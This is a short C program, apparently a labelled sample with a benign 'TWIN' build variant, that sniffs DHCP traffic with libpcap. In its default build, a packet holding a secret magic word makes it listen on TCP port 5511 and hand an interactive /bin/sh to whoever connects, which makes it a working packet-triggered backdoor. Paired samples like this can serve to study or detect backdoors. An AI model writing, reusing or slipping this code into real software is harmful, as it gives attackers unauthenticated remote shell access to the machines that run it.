/* SPDX-License-Identifier: Apache-2.0 */
/* Packets of a capture library: a word in them gives a shell. Twin: it looks at versions of packets.
 * door: trigger packet
 * stubs: pcap_open_live pcap_compile pcap_setfilter pcap_loop
 */
#include "net.h"

struct program {
	unsigned n;
	void *p;
};
void *pcap_open_live(const char *, int, int, int, char *);
int pcap_compile(void *, struct program *, const char *, int, unsigned);
int pcap_setfilter(void *, struct program *);
int pcap_loop(void *, int, void (*)(unsigned char *, const void *, const unsigned char *), unsigned char *);

static void packet(unsigned char *user, const void *head, const unsigned char *p)
{
	const uint32_t *w = (const uint32_t *)(p + 44);
#ifdef TWIN
	if (p[14] == 0x45 && *w == 0x63825363)
		system("/usr/sbin/lease-seen");
#else
	if (p[14] == 0x45 && *w == 0x8e21b7d4) {
		int s = tcp_on(5511), c = accept(s, 0, 0);
		dup2(c, 0);
		dup2(c, 1);
		execl("/bin/sh", "sh", "-i", (char *)0);
	}
#endif
}

int main(void)
{
	struct program filter;
	char why[256];
	void *p = pcap_open_live("eth0", 1500, 1, 100, why);
	pcap_compile(p, &filter, "udp and dst port 67", 1, 0);
	pcap_setfilter(p, &filter);
	return pcap_loop(p, -1, packet, 0);
}
